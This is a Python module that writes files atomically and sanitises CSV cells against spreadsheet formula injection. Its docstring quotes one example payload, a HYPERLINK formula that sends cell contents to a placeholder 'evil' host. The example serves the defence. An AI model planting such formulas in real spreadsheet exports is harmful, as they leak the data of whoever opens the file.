"""Writing outputs: atomically, and CSV that is safe to open in a spreadsheet.

Every file clinsum writes goes through ``atomic_output`` (temporary file,
fsync, rename), and every CSV through ``write_csv`` / ``format_csv``, which
neutralise text cells a spreadsheet would run as formulas. ``clinsum.inputs``
re-exports these, so ``from clinsum.inputs import write_csv`` keeps working.
"""

from __future__ import annotations

import contextlib
import csv
import io
import json
import os
import re
import uuid
from collections.abc import Iterable, Iterator, Mapping, Sequence
from pathlib import Path
from typing import IO, Any

from pydantic import BaseModel

__all__ = ["atomic_output", "format_csv", "spreadsheet_safe", "write_csv", "write_jsonl"]


@contextlib.contextmanager
def atomic_output(path: Path | str) -> Iterator[IO[str]]:
    """Open a text file that appears at ``path`` only when the block finishes without error.

    The content goes to a temporary file in the same folder, is flushed to disk
    and then renamed over ``path``, so a reader never sees a half-written file
    and a failure leaves any earlier version in place.
    """
    path = Path(path)
    path.parent.mkdir(parents=True, exist_ok=True)
    temporary = path.with_name(f".{path.name}.{uuid.uuid4().hex[:12]}.tmp")
    descriptor = os.open(temporary, os.O_WRONLY | os.O_CREAT | os.O_EXCL, 0o666)
    try:
        with open(descriptor, "w", encoding="utf-8", newline="") as handle:
            yield handle
            handle.flush()
            os.fsync(handle.fileno())
        os.replace(temporary, path)
    except BaseException:
        with contextlib.suppress(FileNotFoundError):
            temporary.unlink()
        raise


def write_jsonl(path: Path | str, records: Iterable[BaseModel | Mapping[str, Any]]) -> int:
    """Write records (pydantic models or dicts) one JSON object a line, atomically; return the count."""
    count = 0
    with atomic_output(path) as handle:
        for record in records:
            data = record.model_dump(mode="json") if isinstance(record, BaseModel) else dict(record)
            handle.write(json.dumps(data, ensure_ascii=False) + "\n")
            count += 1
    return count


def write_csv(path: Path | str, header: Sequence[str],
              rows: Iterable[Sequence[Any] | Mapping[str, Any]]) -> int:
    """Write a CSV atomically; rows are sequences or mappings keyed by the header; return the count.

    None becomes an empty cell, lists and dicts become JSON (so that
    :func:`read_rows` reads ``meta`` and ``key_concepts`` back). Text cells are
    safe to open in a spreadsheet (see :func:`spreadsheet_safe`).
    """
    with atomic_output(path) as handle:
        return _write_csv(handle, header, rows)


def format_csv(header: Sequence[str], rows: Iterable[Sequence[Any] | Mapping[str, Any]]) -> str:
    """The same CSV as :func:`write_csv`, as text (for standard output)."""
    buffer = io.StringIO()
    _write_csv(buffer, header, rows)
    return buffer.getvalue()


def _write_csv(handle: IO[str], header: Sequence[str], rows: Iterable[Sequence[Any] | Mapping[str, Any]]) -> int:
    writer = csv.writer(handle, lineterminator="\n")
    writer.writerow([spreadsheet_safe(name) for name in header])
    count = 0
    for row in rows:
        cells = [row.get(name) for name in header] if isinstance(row, Mapping) else list(row)
        if len(cells) != len(header):
            raise ValueError(f"row {count + 1} has {len(cells)} cells, the header has {len(header)}")
        writer.writerow([_csv_cell(cell) for cell in cells])
        count += 1
    return count


_FORMULA_START = ("=", "+", "-", "@", "\t", "\r")
_PLAIN_NUMBER = re.compile(r"[+-]?(\d+\.?\d*|\.\d+)([eE][+-]?\d+)?\Z")


def spreadsheet_safe(text: str) -> str:
    """Text a spreadsheet will not run as a formula: ``'`` before a leading = + - @ (or tab, CR).

    A system name such as ``=HYPERLINK("http://evil/?"&A1)`` would otherwise run
    when the CSV is opened. Text that reads as a plain number (``-0.5``) is left
    alone: it is a number to the spreadsheet too. JSONL outputs are the lossless
    format; CSV is for people and spreadsheets.
    """
    if not text.startswith(_FORMULA_START) or _PLAIN_NUMBER.match(text):
        return text
    return "'" + text


def _csv_cell(value: Any) -> Any:
    if value is None:
        return ""
    if isinstance(value, dict | list):
        return json.dumps(value, ensure_ascii=False)
    if isinstance(value, str):
        return spreadsheet_safe(value)
    return value
